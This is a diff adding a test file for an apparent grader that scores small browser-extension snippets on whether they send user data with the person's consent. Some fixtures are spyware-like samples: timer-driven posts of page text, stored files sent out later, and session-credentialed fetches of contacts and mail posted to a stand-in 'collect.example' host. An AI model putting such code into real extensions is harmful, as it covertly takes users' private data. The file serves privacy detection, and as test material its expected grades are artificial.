@@ -1,0 +1,100 @@
+import { describe, expect, it } from 'vitest';
+import { graded } from '../testing/graded.ts';
+
+/*
+ * What speaks for the person's consent, and what a sending weighs without it, on whole small extensions.
+ */
+
+describe('what is read in a page after a message', () => {
+  const content = `chrome.runtime.onMessage.addListener((m) => {
+    if (m.type === 'ask') fetch('https://translate.example/', { method: 'POST', body: document.body.innerText });
+  });`;
+  const clicked =
+    "chrome.contextMenus.onClicked.addListener((i, tab) => chrome.tabs.sendMessage(tab.id, { type: 'ask' }));";
+  const sent = (type: string): string =>
+    `chrome.alarms.onAlarm.addListener(() => chrome.tabs.sendMessage(1, { type: '${type}' }));`;
+
+  it('is asked for where only the person’s click sends it', async () => {
+    expect(await graded({ content, background: clicked })).toMatch(/^A/);
+    expect(await graded({ content, background: clicked + sent('other') })).toMatch(/^A/);
+  });
+  it('is not where a timer sends it, too', async () => {
+    expect(await graded({ content, background: sent('ask') })).toBe('D');
+    expect(await graded({ content, background: clicked + sent('ask') })).toBe('D');
+  });
+});
+
+describe('a button in a page', () => {
+  const send = "fetch('https://share.example/', { method: 'POST', body: document.body.innerText })";
+  it('is the script’s own where it made it, keeps it or copied it from the page', async () => {
+    const copied = `const one = document.querySelector('.send').cloneNode(true); one.onclick = () => ${send}; document.body.append(one);`;
+    const kept = `class Box { constructor() { this.button = document.createElement('button'); this.button.onclick = () => this.send(); } send() { ${send}; } } new Box();`;
+    expect(await graded({ content: copied })).toMatch(/^A/);
+    expect(await graded({ content: kept })).toMatch(/^A/);
+  });
+  it('is the page’s own otherwise', async () => {
+    expect(await graded({ content: `document.querySelector('.send').onclick = () => ${send};` })).toBe('D');
+  });
+});
+
+describe('what is sent to its maker by itself', () => {
+  const manifest = { homepage_url: 'https://maker.example' };
+  const sending = (what: string): string => `fetch('https://api.maker.example/', { method: 'POST', body: ${what} });`;
+  it('weighs high where it is of any page, less where it is of its own sites or was marked', async () => {
+    expect(await graded({ content: sending('document.body.innerText'), manifest })).toBe('C');
+    const sites = { ...manifest, content_scripts: [{ matches: ['https://shop.example/*'], js: ['content.js'] }] };
+    expect(await graded({ content: sending('document.body.innerText'), manifest: sites })).toMatch(/^A/);
+    expect(await graded({ content: sending('getSelection().toString()'), manifest })).toMatch(/^A/);
+  });
+});
+
+describe('a file that is chosen', () => {
+  const chosen = (then: string): string =>
+    `document.getElementById('b').onchange = async (e) => { const f = e.target.files[0]; ${then} };`;
+  const post = (what: string): string => `fetch('https://convert.example/', { method: 'POST', body: ${what} });`;
+  it('is given to what happens then', async () => {
+    expect(await graded({ popup: chosen(post('f')) })).toMatch(/^A/);
+  });
+  it('is not where it is kept and sent later, also through a reader', async () => {
+    const reader = chosen(
+      'const r = new FileReader(); r.onload = () => chrome.storage.local.set({ d: r.result }); r.readAsDataURL(f);',
+    );
+    const later = `chrome.alarms.onAlarm.addListener(async () => { const { d } = await chrome.storage.local.get('d'); ${post('d')} });`;
+    expect(await graded({ popup: reader, background: later })).toBe('D');
+  });
+  it('tells nothing where it is a file of settings', async () => {
+    const settings = chosen('chrome.storage.local.set(JSON.parse(await f.text()));');
+    const asks =
+      "chrome.alarms.onAlarm.addListener(async () => { const { city } = await chrome.storage.local.get('city'); fetch('https://weather.example/?q=' + city); });";
+    expect(await graded({ popup: settings, background: asks })).toMatch(/^A/);
+  });
+});
+
+describe('what a site answers the person’s session', () => {
+  const ask = (address: string, then: string): string =>
+    `setInterval(async () => { const all = await (await fetch(${address}, { credentials: 'include' })).json(); ${then} }, 60000);`;
+  const send = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all) });";
+  it('is private where it goes to somebody else', async () => {
+    expect(await graded({ content: ask("new URL('/api/contacts', location.origin)", send) })).toBe('D');
+    expect(await graded({ background: ask("'https://mail.example/api'", send) })).toMatch(/^[CD]$/);
+  });
+  it('stays with the site', async () => {
+    const back = "fetch('/api/seen', { method: 'POST', body: JSON.stringify(all) });";
+    expect(await graded({ content: ask("'/api/contacts'", back) })).toMatch(/^A/);
+  });
+});
+
+describe('a policy for the extension’s own pages', () => {
+  const policy = (hosts: string): Promise<string> =>
+    graded({
+      popup: 'show();',
+      manifest: {
+        manifest_version: 2,
+        content_security_policy: `script-src 'self' ${hosts}; object-src 'self'`,
+      },
+    });
+  it('weighs less where it allows named services than where it allows any server', async () => {
+    expect(await policy('https://apis.google.com https://platform.twitter.com')).toMatch(/^[AB]/);
+    expect(await policy('https:')).toBe('C');
+  });
+});
